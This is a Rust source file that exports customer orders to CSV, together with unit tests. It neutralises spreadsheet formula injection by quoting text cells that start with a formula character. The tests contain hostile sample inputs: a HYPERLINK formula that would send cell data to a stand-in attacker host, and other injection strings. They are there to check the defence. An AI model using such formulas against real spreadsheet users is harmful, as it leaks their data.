//! CSV export of orders for a spreadsheet or an accountant: one row per order line, the
//! order's columns repeated, amounts as decimal text in the currency's own decimals. The
//! file is written to a temporary file beside it and renamed, so it is whole or absent.
//!
//! A customer chooses their own name and writes the notes, so every text cell that a
//! spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, tab or carriage
//! return) gets a leading `'`, as the products export does; amounts and quantities that are
//! plain numbers are written as they are.

use std::path::Path;

use serde::Serialize;

use super::OrderQuery;
use crate::import::{spreadsheet_number, spreadsheet_text};
use crate::{AppError, Vitrine};

/// Columns holding a number: a plain number there is left as it is.
const NUMERIC: [&str; 5] = [
    "quantity",
    "unit_price",
    "line_total",
    "catalog_price",
    "order_total",
];

const COLUMNS: [&str; 16] = [
    "order",
    "received_at",
    "status",
    "customer_name",
    "customer_number",
    "ref",
    "sku",
    "title",
    "quantity",
    "unit_price",
    "line_total",
    "currency",
    "catalog_price",
    "order_total",
    "note",
    "wamid",
];

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct OrdersExport {
    pub orders: usize,
    pub lines: usize,
}

impl Vitrine {
    /// Writes the orders `query` selects to `dest` as CSV.
    pub fn export_orders(&self, dest: &Path, query: &OrderQuery) -> Result<OrdersExport, AppError> {
        let orders = self.orders(query)?;
        let csv_error = |e: csv::Error| AppError::Unreadable {
            source_name: dest.display().to_string(),
            message: e.to_string(),
        };
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(COLUMNS).map_err(csv_error)?;
        let mut lines = 0;
        let decimal =
            |m: Option<vitrine_core::Money>| m.map(|m| m.to_decimal_string()).unwrap_or_default();
        for order in &orders {
            for line in &order.lines {
                lines += 1;
                let cells = [
                    order.id.to_string(),
                    order.received_at.to_rfc3339(),
                    order.status.as_str().to_owned(),
                    order.customer.name.clone(),
                    order.customer.wa_id.clone(),
                    order.ref_tag.clone().unwrap_or_default(),
                    line.sku.clone(),
                    line.product
                        .as_ref()
                        .map(|p| p.title.clone())
                        .unwrap_or_default(),
                    line.quantity.to_string(),
                    decimal(line.unit_price),
                    decimal(line.line_total),
                    line.unit_price
                        .map(|p| p.currency().code().to_owned())
                        .unwrap_or_default(),
                    decimal(line.product.as_ref().map(|p| p.price)),
                    decimal(order.total),
                    order.note.clone(),
                    order.wamid.clone(),
                ];
                let safe = COLUMNS.iter().zip(cells).map(|(column, cell)| {
                    if NUMERIC.contains(column) {
                        spreadsheet_number(cell)
                    } else {
                        spreadsheet_text(cell)
                    }
                });
                writer.write_record(safe).map_err(csv_error)?;
            }
        }
        let bytes = writer.into_inner().map_err(|e| AppError::Unreadable {
            source_name: dest.display().to_string(),
            message: e.to_string(),
        })?;
        crate::files::write_atomically(dest, &bytes)?;
        Ok(OrdersExport {
            orders: orders.len(),
            lines,
        })
    }
}

#[cfg(test)]
mod tests {
    use serde_json::value::RawValue;
    use vitrine_relay::wire::{EventKind, RelayEvent};

    use super::*;

    /// A WhatsApp cart from a customer who chose `name`.
    fn cart(name: &str) -> RelayEvent {
        let raw =
            |value: serde_json::Value| RawValue::from_string(value.to_string()).expect("JSON text");
        RelayEvent {
            cursor: "1".into(),
            phone_number_id: "106540352242922".into(),
            kind: EventKind::Message,
            message_id: Some("wamid.CART".into()),
            status: None,
            timestamp: Some(1_750_000_000),
            received_at_ms: 1_750_000_000_000,
            data: raw(serde_json::json!({
                "from": "16505551234", "id": "wamid.CART", "timestamp": "1750000000",
                "type": "order", "order": {"catalog_id": "1", "text": "@SUM(1+1)", "product_items": [
                    {"product_retailer_id": "-SKU", "quantity": 2, "item_price": 7.5, "currency": "USD"}]}
            })),
            contact: Some(raw(
                serde_json::json!({"profile": {"name": name}, "wa_id": "16505551234"}),
            )),
        }
    }

    #[test]
    fn a_customers_formula_is_exported_as_text_and_amounts_as_numbers() {
        let dir = tempfile::tempdir().expect("tmp");
        let v = Vitrine::open(dir.path()).expect("open");
        let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Ana\")";
        v.store
            .write(|tx| {
                super::super::ingest::apply(tx, &super::super::ingest::Incoming::Known(cart(name)))
            })
            .expect("the cart is stored");
        let dest = dir.path().join("orders.csv");
        let summary = v
            .export_orders(&dest, &OrderQuery::default())
            .expect("export");
        assert_eq!(summary.lines, 1, "the cart's one line");
        let mut reader = csv::Reader::from_path(&dest).expect("csv");
        let row = reader.records().next().expect("a line").expect("readable");
        let cell = |column: &str| {
            let i = COLUMNS.iter().position(|c| *c == column).expect("column");
            row.get(i).unwrap_or_default().to_owned()
        };
        assert_eq!(
            cell("customer_name"),
            format!("'{name}"),
            "a spreadsheet shows the name as text instead of running it"
        );
        assert_eq!(cell("sku"), "'-SKU", "a text column is quoted even for `-`");
        assert_eq!(
            (cell("quantity"), cell("unit_price")),
            ("2".to_owned(), "7.50".to_owned()),
            "numbers stay numbers"
        );
    }

    #[test]
    fn only_plain_numbers_in_numeric_columns_are_left_unquoted() {
        assert_eq!(spreadsheet_number("-5".into()), "-5");
        assert_eq!(spreadsheet_number("-12.50".into()), "-12.50");
        assert_eq!(spreadsheet_number("-5+A1".into()), "'-5+A1");
        assert_eq!(spreadsheet_number("-".into()), "'-");
        assert_eq!(spreadsheet_text("-5".into()), "'-5");
        assert_eq!(spreadsheet_text("\tx".into()), "'\tx");
        assert_eq!(spreadsheet_text("\rx".into()), "'\rx");
        assert_eq!(spreadsheet_text("Ana =x".into()), "Ana =x");
    }
}
